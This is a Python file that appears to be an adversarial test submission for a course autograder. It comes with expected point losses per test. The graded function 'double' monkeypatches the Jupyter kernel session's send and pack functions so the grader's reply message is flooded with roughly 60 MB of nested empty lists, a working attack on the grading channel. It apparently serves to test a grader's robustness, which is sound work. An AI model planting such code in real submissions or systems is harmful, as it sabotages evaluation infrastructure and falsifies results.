"""Puts 60 MB of empty lists into the part of a message that is read first."""

import sys

STARTS_FROM = "honest"
LOSES = {
    "test_double": 3,
    "test_tally": 2,
    "test_squares": 2,
    "test_answer": 1,
    "test_reverse": 2,
    "test_mean": 4,
}

# %% double


inside = sys.modules["coursekit.grading.remote.kernel_side"]
session = get_ipython().kernel.session
send, pack = session.send, session.pack


def bomb(stream, kind, content=None, *words, **more):
    if kind == "coursekit_reply":
        session.pack = lambda value: b"[" + b"[]," * 20_000_000 + b"[]]"
    try:
        return send(stream, kind, content, *words, **more)
    finally:
        session.pack = pack


def double(values):
    session.send = bomb
    return 2 * values
